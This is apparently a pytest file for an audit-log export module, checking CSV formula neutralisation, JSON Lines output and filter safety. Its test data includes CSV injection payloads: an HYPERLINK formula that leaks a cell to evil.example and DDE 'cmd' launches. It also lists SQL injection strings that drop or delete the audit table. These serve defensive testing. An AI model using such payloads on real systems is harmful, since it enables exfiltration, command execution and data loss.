"""Export : lignes, CSV neutralisé, JSON Lines — relus tels quels sur les trois backends."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from audit_rows import insert_rows
from conftest import Backend
from forge_mvc_audit import (
    AUDIT_EXPORT_COLUMNS,
    DEFAULT_BATCH_SIZE,
    AuditEntry,
    AuditError,
    count_audit,
    entry_to_row,
    get_audit_log,
    iter_audit_rows,
    record_audit,
    write_audit_export,
)
from forge_mvc_audit.export import jsonl_line, neutralize_cell

# Liste OWASP « CSV Injection » : ce par quoi une formule commence.
OWASP_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd",
    "＝1+1",
    "'=1+1",
    "'simple",
]
HARMLESS = ["note.modifiee", "a=b", "1-2", " =1+1", "", "é=", "x\n=1", '"=1"']


@pytest.mark.fast
def test_columns_and_defaults() -> None:
    assert AUDIT_EXPORT_COLUMNS[:7] == (
        "id",
        "created_at",
        "actor",
        "action",
        "target_type",
        "target_id",
        "details",
    )
    assert set(AUDIT_EXPORT_COLUMNS[7:]) == {"request_id", "ip"}
    assert set(AUDIT_EXPORT_COLUMNS) == set(AuditEntry.__dataclass_fields__)
    assert DEFAULT_BATCH_SIZE == 500


@pytest.mark.fast
def test_entry_to_row_orders_columns_and_blanks_absent_values() -> None:
    entry = AuditEntry(7, None, "connexion", None, "42", None, "2026-01-05 10:00:00", None, "::1")
    row = entry_to_row(entry)
    assert list(row) == list(AUDIT_EXPORT_COLUMNS)
    assert row == {
        "id": 7,
        "created_at": "2026-01-05 10:00:00",
        "actor": "",
        "action": "connexion",
        "target_type": "",
        "target_id": "42",
        "details": "",
        "request_id": "",
        "ip": "::1",
    }


@pytest.mark.fast
@pytest.mark.parametrize("trigger", OWASP_TRIGGERS)
def test_every_owasp_trigger_is_neutralized(trigger: str) -> None:
    value = trigger + "1+1"
    assert neutralize_cell(value) == "'" + value


@pytest.mark.fast
@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_cells_are_left_alone(value: str) -> None:
    assert neutralize_cell(value) == value


def _unneutralize(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


@pytest.mark.fast
@given(st.text())
def test_neutralization_is_safe_and_reversible(value: str) -> None:
    cell = neutralize_cell(value)
    assert not cell or cell[0] not in OWASP_TRIGGERS
    assert _unneutralize(cell) == value


def _csv(**filters: object) -> tuple[str, list[list[str]]]:
    buffer = io.StringIO(newline="")
    count = write_audit_export(buffer, **filters)  # type: ignore[arg-type]
    text = buffer.getvalue()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(AUDIT_EXPORT_COLUMNS)
    assert count == len(rows) - 1
    return text, rows[1:]


def _expected(entry: AuditEntry) -> list[str]:
    return [str(value) for value in entry_to_row(entry).values()]


def test_csv_neutralizes_formulas_in_every_column_and_reads_back(audit_db: Backend) -> None:
    insert_rows(
        {
            "actor": payload,
            "action": payload or "vide",
            "target_type": payload,
            "target_id": payload,
            "details": payload,
            "request_id": payload[:64],
            "ip": payload[:45],
        }
        for payload in FORMULAS + HARMLESS
    )
    entries = get_audit_log()
    text, rows = _csv()
    assert len(rows) == len(entries) == len(FORMULAS + HARMLESS)
    for entry, cells in zip(entries, rows, strict=True):
        for cell in cells:
            assert not cell or cell[0] not in [*OWASP_TRIGGERS, "＝"], cells
        assert [_unneutralize(cell) for cell in cells] == _expected(entry)
    assert "'=HYPERLINK" in text
    assert text.endswith("\r\n")
    # Guillemets RFC 4180 : doublés, et champ multi-ligne entre guillemets.
    assert '"""=1"""' in text
    assert '"x\n=1"' in text


def test_csv_round_trips_awkward_text(audit_db: Backend) -> None:
    awkward = [
        'a,b;"c"\r\nd',
        "élève 学生 😀 \u202e",
        "\\N",
        "NULL",
        "x" * 5000,
        "a\x1b[31mrouge\x9b",
    ]
    for text in awkward:
        record_audit("texte", actor=text[:191], details=text)
    record_audit("absent")
    entries = get_audit_log()
    _, rows = _csv()
    assert rows == [_expected(e) for e in entries]
    assert rows[0][2:7] == ["", "absent", "", "", ""]


def test_csv_file_is_utf8_with_crlf(audit_db: Backend, tmp_path: Path) -> None:
    record_audit("note.modifiee", actor="Élodie", details="ligne1\nligne2")
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        assert write_audit_export(stream) == 1
    data = path.read_bytes()
    assert data.startswith(
        b"id,created_at,actor,action,target_type,target_id,details,request_id,ip\r\n"
    )
    assert "Élodie".encode() in data
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[1][2] == "Élodie" and rows[1][6] == "ligne1\nligne2"


def test_jsonl_round_trip(audit_db: Backend) -> None:
    values = ["=1+1", "élève 😀", 'guillemet " et \\', "a\nb\r\tc", "\x1b[2J\x9b\u202e\u2028", ""]
    for value in values:
        record_audit(value or "vide", actor=value, target_id=value or None, details=value)
    insert_rows([{"action": "traçage", "request_id": "req-1", "ip": "2001:db8::1"}])
    buffer = io.StringIO()
    count = write_audit_export(buffer, format="jsonl")
    text = buffer.getvalue()
    lines = text.split("\n")
    assert lines[-1] == "" and len(lines) - 1 == count == len(values) + 1
    decoded = [json.loads(line) for line in lines[:-1]]
    assert decoded == [entry_to_row(e) for e in get_audit_log()]
    assert decoded[0]["request_id"] == "req-1" and decoded[0]["ip"] == "2001:db8::1"
    # Lisible (pas de \u00e9), mais rien de dangereux pour un terminal.
    assert "élève 😀" in text and "=1+1" in text
    for raw in ("\x1b", "\x9b", "\u202e", "\u2028", "\r", "\t"):
        assert raw not in text


@pytest.mark.fast
@given(st.dictionaries(st.sampled_from(AUDIT_EXPORT_COLUMNS), st.text()))
def test_jsonl_line_is_one_printable_line_that_decodes_back(row: dict[str, str]) -> None:
    line = jsonl_line(row)
    assert "\n" not in line and "\r" not in line
    assert all(char.isprintable() or unicodedata.category(char) == "Zs" for char in line)
    assert json.loads(line) == row


def test_iter_rows_equal_entry_to_row_of_get_audit_log(audit_db: Backend) -> None:
    insert_rows(
        {"actor": f"u{i % 4}", "action": "a", "target_id": str(i), "request_id": f"r{i % 3}"}
        for i in range(57)
    )
    record_audit("b", actor="u1", details="détail")
    for filters in ({}, {"actor": "u1"}, {"request_id": "r2", "before_id": 40}):
        expected = [entry_to_row(e) for e in get_audit_log(limit=1000, **filters)]  # type: ignore[arg-type]
        for size in (1, 5, 57, 58, 1000):
            assert list(iter_audit_rows(batch_size=size, **filters)) == expected  # type: ignore[arg-type]


def test_iter_rows_is_lazy_and_batched(audit_db: Backend) -> None:
    """Mémoire constante : un lot à la fois, jamais toute la sélection."""
    insert_rows({"target_id": str(i)} for i in range(25))

    class Counting:
        def __init__(self) -> None:
            self.limits: list[int] = []

        def fetch_all(self, sql: str, params: list[object]) -> list[dict[str, object]]:
            from core.database import db

            self.limits.append(int(params[-1]))  # type: ignore[arg-type]
            assert "OFFSET" not in sql.upper()
            return db.fetch_all(sql, params)

    handle = Counting()
    rows = iter_audit_rows(batch_size=10, db=handle)
    assert handle.limits == []  # rien lu avant le premier next()
    first = next(rows)
    assert handle.limits == [10] and first["id"] == 25
    assert len(list(rows)) == 24
    assert handle.limits == [10, 10, 10]


@pytest.mark.fast
@pytest.mark.parametrize("size", [0, -5, True, 2.5, "10", None])
def test_bad_batch_size_is_refused_at_call(size: object) -> None:
    with pytest.raises(AuditError, match="batch_size"):
        iter_audit_rows(batch_size=size)  # type: ignore[arg-type]
    with pytest.raises(AuditError, match="batch_size"):
        write_audit_export(io.StringIO(), batch_size=size)  # type: ignore[arg-type]


@pytest.mark.fast
@pytest.mark.parametrize("fmt", ["xml", "CSV", "", "json"])
def test_unknown_format_writes_nothing(fmt: str) -> None:
    out = io.StringIO()
    with pytest.raises(AuditError, match="Format"):
        write_audit_export(out, format=fmt)
    assert out.getvalue() == ""


@pytest.mark.usefixtures("audit_db")
def test_bad_filter_writes_nothing() -> None:
    out = io.StringIO()
    with pytest.raises(AuditError, match="inversée"):
        write_audit_export(out, since="2026-02-01", until="2026-01-01")
    assert out.getvalue() == ""


def test_progress_is_called_per_batch(audit_db: Backend) -> None:
    insert_rows({"target_id": str(i)} for i in range(23))
    seen: list[int] = []
    assert write_audit_export(io.StringIO(), batch_size=10, progress=seen.append) == 23
    assert seen == [10, 20, 23]


INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE audit_log; --",
    '" OR ""="',
    "1) OR (1=1",
    "\\'; DELETE FROM audit_log; --",
    "%' OR 1=1 --",
    "*/ OR 1=1 /*",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_injection_payloads_in_every_export_filter_change_nothing(
    audit_db: Backend, payload: str
) -> None:
    insert_rows({"actor": "prof", "request_id": "r"} for _ in range(3))
    for field in ("actor", "action", "target_type", "target_id", "request_id"):
        assert list(iter_audit_rows(**{field: payload})) == []  # type: ignore[arg-type]
        assert count_audit(**{field: payload}) == 0  # type: ignore[arg-type]
        _, rows = _csv(**{field: payload})
        assert rows == []
    for bound in ("since", "until"):
        with pytest.raises(AuditError):
            iter_audit_rows(**{bound: payload})  # type: ignore[arg-type]
    assert count_audit() == 3
    record_audit(payload, actor=payload)
    assert [row["actor"] for row in iter_audit_rows(actor=payload)] == [payload]


def test_jsonl_export_is_exactly_jsonl_line_of_each_row(audit_db: Backend) -> None:
    """L'export JSONL compose ses lignes à la main : elles doivent être celles de jsonl_line."""
    values = ['"\\/\b\f\n\r\t', "\x00\x1f\x7f\x9f\u2028\u00a0", "😀𝄞", "", "é" * 150]
    insert_rows(
        {
            "actor": value,
            "action": value or "vide",
            "target_type": value,
            "target_id": value,
            "details": value * 3,
            "request_id": value[:64],
            "ip": value[:45],
            "created_at": "2026-03-04 05:06:07",
        }
        for value in values
        if "\x00" not in value or audit_db.name != "postgres"  # NUL : refusé par PostgreSQL
    )
    record_audit("sans rien")
    buffer = io.StringIO()
    write_audit_export(buffer, format="jsonl", batch_size=2)
    expected = "".join(jsonl_line(row) + "\n" for row in iter_audit_rows())
    assert buffer.getvalue() == expected
